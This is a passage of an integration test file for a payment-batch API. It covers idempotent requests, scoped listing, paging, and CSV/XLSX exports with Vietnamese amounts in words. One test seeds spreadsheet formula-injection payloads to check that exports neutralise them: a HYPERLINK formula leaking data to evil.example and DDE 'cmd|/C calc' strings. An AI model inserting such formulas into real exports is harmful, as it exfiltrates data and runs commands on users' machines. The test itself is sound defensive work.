    it('replays the first answer for the same key and body, and refuses the key with another body', async () => {
      const prog = await makeProgramme();
      await enrol(prog.id);
      const body = { programmeId: prog.id, period: '2024-12', areaId: await areaId('01') };
      const key = `batch-${prog.code}`;
      const first = await call('POST', '/api/v1/batches', { token: c.staff.token, body, headers: { 'idempotency-key': key } });
      expect(first.status).to.equal(201);
      const replay = await call('POST', '/api/v1/batches', { token: c.staff.token, body, headers: { 'idempotency-key': key } });
      expect(replay.status).to.equal(201);
      expect(replay.headers.get('idempotent-replayed')).to.equal('true');
      expect(replay.body.id).to.equal(first.body.id);
      const other = await call('POST', '/api/v1/batches', {
        token: c.staff.token,
        body: { ...body, period: '2024-11' },
        headers: { 'idempotency-key': key },
      });
      expect(other.status).to.equal(409);
      const list = await get(`/batches?programmeId=${prog.id}`, c.staff.token);
      expect(list.body.totals.count).to.equal(1);
      await waitForCheck(c.staff.token, first.body.id);
      // a move too
      const s1 = await call('POST', `/api/v1/batches/${first.body.id}/submit`, {
        token: c.staff.token,
        body: {},
        headers: { 'idempotency-key': `${key}-s` },
      });
      const s2 = await call('POST', `/api/v1/batches/${first.body.id}/submit`, {
        token: c.staff.token,
        body: {},
        headers: { 'idempotency-key': `${key}-s` },
      });
      expect(s1.status).to.equal(200);
      expect(s2.status).to.equal(200);
      expect(s2.body).to.deep.equal(s1.body);
    });
  });

  describe('lists and exports', () => {
    it('lists batches with filters and totals, scoped to the caller', async () => {
      const prog = await makeProgramme();
      await enrol(prog.id, { area: '00001' });
      await enrol(prog.id, { area: '00037' });
      const d1 = await createBatch(c.staff.token, { programmeId: prog.id, period: '2024-12', areaId: await areaId('001') });
      const d2 = await createBatch(c.staff.token, { programmeId: prog.id, period: '2024-12', areaId: await areaId('002') });
      const all = await get(`/batches?programmeId=${prog.id}`, c.auditor.token);
      expect(all.body.items.map((b: any) => b.id)).to.deep.equal([d2.id, d1.id]);
      expect(all.body.totals).to.deep.equal({ count: 2, itemCount: 2, totalAmount: 1_500_000 });
      const officer = await makeUser(['approver'], { area: '002' });
      const mine = await get(`/batches?programmeId=${prog.id}`, officer.token);
      expect(mine.body.items.map((b: any) => b.id)).to.deep.equal([d2.id]);
      expect((await get(`/batches/${d1.id}`, officer.token)).status).to.equal(404);
      const drafts = await get(`/batches?programmeId=${prog.id}&status=submitted`, c.auditor.token);
      expect(drafts.body.items).to.have.length(0);
      const bad = await get('/batches?status=paid', c.auditor.token);
      expect(bad.status).to.equal(400);
    });

    it('pages items and exports them as CSV and as a printable XLSX with amounts in words', async () => {
      const prog = await makeProgramme();
      for (let i = 0; i < 5; i++) await enrol(prog.id, { area: i < 3 ? '00001' : '00004', channel: 'CASH', fullName: `Nguyễn Văn ${i}` });
      const b = await createBatch(c.staff.token, { programmeId: prog.id, period: '2024-12', areaId: await areaId('001') });
      const every = await allItems(c.staff.token, b.id);
      const seqs = every.map((i: any) => i.seq);
      expect(seqs).to.have.length(5);
      expect([...seqs].sort((x, y) => x - y)).to.deep.equal(seqs);
      const p1 = await get(`/batches/${b.id}/items?limit=2`, c.staff.token);
      expect(p1.body.items.map((i: any) => i.seq)).to.deep.equal(seqs.slice(0, 2));
      const p2 = await get(`/batches/${b.id}/items?limit=2&cursor=${p1.body.nextCursor}`, c.staff.token);
      expect(p2.body.items.map((i: any) => i.seq)).to.deep.equal(seqs.slice(2, 4));
      const ward = await get(`/batches/${b.id}/items?areaId=${await areaId('00004')}`, c.staff.token);
      expect(ward.body.items.map((i: any) => i.areaCode)).to.deep.equal(['00004', '00004']);
      const district = await get(`/batches/${b.id}/items?areaId=${await areaId('001')}`, c.staff.token);
      expect(district.body.items).to.have.length(5);
      const elsewhere = await get(`/batches/${b.id}/items?areaId=${await areaId('002')}`, c.staff.token);
      expect(elsewhere.body.items).to.have.length(0);

      const csv = await call('GET', `/api/v1/batches/${b.id}/items/export.csv`, { token: c.auditor.token });
      expect(csv.status).to.equal(200);
      expect(csv.headers.get('content-type')).to.include('text/csv');
      const rows = parse(csv.text.replace(/^\uFEFF/, ''), { columns: true }) as Record<string, string>[];
      expect(rows).to.have.length(5);
      expect(rows[0]).to.include({ amount: '750000', amountInWords: 'Bảy trăm năm mươi nghìn đồng', channel: 'CASH', period: '2024-12' });
      expect((await lastAudit('batch.export')).entity_id).to.equal(b.id);

      const { url } = await testApp();
      const res = await fetch(`${url}/api/v1/batches/${b.id}/items/export.xlsx`, {
        headers: { authorization: `Bearer ${c.auditor.token}` },
      });
      expect(res.status).to.equal(200);
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(Buffer.from(await res.arrayBuffer()) as never);
      const ws = wb.worksheets[0]!;
      const values: unknown[][] = [];
      ws.eachRow((r) => values.push((r.values as unknown[]).slice(1)));
      const people = values.filter((v) => typeof v[0] === 'number');
      expect(people).to.have.length(5);
      expect(people[0]![6]).to.equal(750_000);
      expect(people[0]![7]).to.equal('Bảy trăm năm mươi nghìn đồng');
      const total = values.find((v) => String(v[1]).startsWith('Tổng cộng'));
      expect(total![6]).to.equal(3_750_000);
      expect(total![7]).to.equal('Ba triệu bảy trăm năm mươi nghìn đồng');
      expect(values.filter((v) => String(v[1]).startsWith('Cộng '))).to.have.length(2); // one subtotal per ward
    });

    it('writes account names and review reasons that a spreadsheet would run as formulas as text, in the CSV and the XLSX', async () => {
      const prog = await makeProgramme();
      const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")';
      await enrol(prog.id, { area: '00001', fullName: '-Nguyễn Văn Âm', accountName: hyperlink });
      await enrol(prog.id, { area: '00001' });
      await enrol(prog.id, { area: '00001' });
      const b = await createBatch(c.staff.token, { programmeId: prog.id, period: '2024-12', areaId: await areaId('001') });
      const items = await allItems(c.staff.token, b.id);
      const held = items.find((i: any) => i.accountName !== hyperlink)!;
      const excluded = items.find((i: any) => i.accountName !== hyperlink && i.seq !== held.seq)!;
      for (const [action, seq, reason] of [
        ['hold', held.seq, '+cmd|/C calc!A0'],
        ['exclude', excluded.seq, '@SUM(1+1)*cmd|/C calc!A0'],
      ] as const) {
        const r = await post(`/batches/${b.id}/items/review`, { action, seqs: [seq], reason }, c.staff.token);
        expect(r.status, JSON.stringify(r.body)).to.equal(200);
      }

      const csv = await call('GET', `/api/v1/batches/${b.id}/items/export.csv`, { token: c.auditor.token });
      expect(csv.status).to.equal(200);
      const rows = parse(csv.text.replace(/^\uFEFF/, ''), { columns: true }) as Record<string, string>[];
      const bySeq = new Map(rows.map((r) => [Number(r.seq), r]));
      const odd = rows.find((r) => r.accountName!.includes('HYPERLINK'))!;
      expect(odd).to.include({ accountName: `'${hyperlink}`, fullName: "'-Nguyễn Văn Âm", amount: '750000' });
      expect(bySeq.get(held.seq)!.reviewReason).to.equal("'+cmd|/C calc!A0");
      expect(bySeq.get(excluded.seq)!.reviewReason).to.equal("'@SUM(1+1)*cmd|/C calc!A0");
      for (const r of rows) {
        for (const [col, v] of Object.entries(r)) expect(v, `${col} of item ${r.seq}`).not.to.match(/^[=+\-@\t\r]/);
      }

      const { url } = await testApp();
      const res = await fetch(`${url}/api/v1/batches/${b.id}/items/export.xlsx`, {
        headers: { authorization: `Bearer ${c.auditor.token}` },
      });
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(Buffer.from(await res.arrayBuffer()) as never);
      const names: unknown[] = [];
      wb.worksheets[0]!.eachRow((r) => {
        const v = (r.values as unknown[]).slice(1);
        if (typeof v[0] === 'number') {
          names.push(v[1]);
          expect(v[6], 'amount stays a number').to.equal(750_000);
        }
      });
      expect(names).to.include("'-Nguyễn Văn Âm");
      expect(names).not.to.include('-Nguyễn Văn Âm');
    });
  });
});
